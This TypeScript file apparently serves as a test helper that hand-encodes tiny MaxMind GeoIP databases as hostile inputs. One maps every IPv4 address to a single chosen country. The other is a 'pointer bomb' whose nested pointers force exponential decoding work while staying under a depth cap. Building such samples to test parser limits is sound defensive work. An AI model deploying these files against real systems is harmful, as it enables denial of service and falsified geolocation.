/**
 * The smallest MaxMind DB files an attacker would write, encoded by hand from the format spec
 * (https://maxmind.github.io/MaxMind-DB/): one search-tree node whose both records point at one
 * data record, so every IPv4 address answers with it. Used to plant a database that maps
 * everyone to one country, and to build a "pointer bomb" (see `pointerBombDatabase`).
 */

type Value = string | number | { map: Array<[string, Value]> } | { pointer: number };

const TYPE_POINTER = 1;
const TYPE_STRING = 2;
const TYPE_UINT32 = 6;
const TYPE_MAP = 7;
const NODE_COUNT = 1;
const RECORD_SIZE_BITS = 24;
const SEARCH_TREE_BYTES = (NODE_COUNT * RECORD_SIZE_BITS * 2) / 8;
const DATA_SEPARATOR = Buffer.alloc(16);
const METADATA_MARKER = Buffer.from('\xAB\xCD\xEFMaxMind.com', 'latin1');

// Control byte: type in the top three bits, size in the low five (sizes here stay under 29).
function control(type: number, size: number): Buffer {
  if (size >= 29) throw new Error(`tiny-mmdb encodes sizes below 29 only, not ${size}`);
  return Buffer.from([(type << 5) | size]);
}

function encode(value: Value): Buffer {
  if (typeof value === 'string') {
    const bytes = Buffer.from(value, 'utf8');
    return Buffer.concat([control(TYPE_STRING, bytes.length), bytes]);
  }
  if (typeof value === 'number') {
    const bytes: number[] = [];
    for (let v = value; v > 0; v = Math.floor(v / 256)) bytes.unshift(v % 256);
    return Buffer.concat([control(TYPE_UINT32, bytes.length), Buffer.from(bytes)]);
  }
  if ('pointer' in value) {
    // Size-0 pointer (SS=00): 11 bits of offset into the data section; these files stay under 2 KiB.
    const v = value.pointer;
    if (v < 0 || v >= 2048) throw new Error(`pointer target ${v} out of the size-0 range`);
    return Buffer.from([(TYPE_POINTER << 5) | (v >> 8), v & 0xff]);
  }
  return Buffer.concat([control(TYPE_MAP, value.map.length), ...value.map.flatMap(([key, item]) => [encode(key), encode(item)])]);
}

// One node, both records pointing at the data record at `recordOffset` (value = node count + 16 + offset).
function searchTree(recordOffset: number): Buffer {
  const value = NODE_COUNT + 16 + recordOffset;
  const record = [(value >> 16) & 0xff, (value >> 8) & 0xff, value & 0xff];
  return Buffer.from([...record, ...record]);
}

function metadata(databaseType: string): Buffer {
  return encode({
    map: [
      ['binary_format_major_version', 2],
      ['binary_format_minor_version', 0],
      ['build_epoch', 1_780_000_000],
      ['database_type', databaseType],
      ['ip_version', 4],
      ['node_count', NODE_COUNT],
      ['record_size', RECORD_SIZE_BITS],
    ],
  });
}

function assemble(data: Buffer, recordOffset: number, databaseType: string): Buffer {
  if (SEARCH_TREE_BYTES !== 6) throw new Error('tiny-mmdb: one 24-bit node is 6 bytes');
  return Buffer.concat([searchTree(recordOffset), DATA_SEPARATOR, data, METADATA_MARKER, metadata(databaseType)]);
}

/** A GeoIP2-City-shaped database that places every IPv4 address in `isoCode`. */
export function oneCountryDatabase(isoCode: string, name: string): Buffer {
  const record = encode({ map: [['country', { map: [['iso_code', isoCode], ['names', { map: [['en', name]] }]] }]] });
  return assemble(record, 0, 'GeoIP2-City');
}

/**
 * A database of a few hundred bytes whose one record costs 2^levels decoding steps: map k is
 * {a: →map k-1, b: →map k-1}, so every level doubles the work. Each level nests two deeper (the
 * pointer, then the map it points to), so 29 levels put the innermost value at depth 61: a depth
 * cap of 64 never trips, and only a cap on the work itself stops the lookup.
 */
export function pointerBombDatabase(levels = 29): Buffer {
  const parts: Buffer[] = [];
  let offset = 0;
  // The innermost value: a small map with a string.
  const leaf = encode({ map: [['x', 'y']] });
  parts.push(leaf);
  let previous = offset;
  offset += leaf.length;
  for (let level = 0; level < levels; level++) {
    const map = encode({ map: [['a', { pointer: previous }], ['b', { pointer: previous }]] });
    parts.push(map);
    previous = offset;
    offset += map.length;
  }
  // The record itself has the shape a City record starts with, so a reader gets as far as its values.
  const record = encode({ map: [['country', { pointer: previous }]] });
  parts.push(record);
  return assemble(Buffer.concat(parts), offset, 'GeoIP2-City');
}
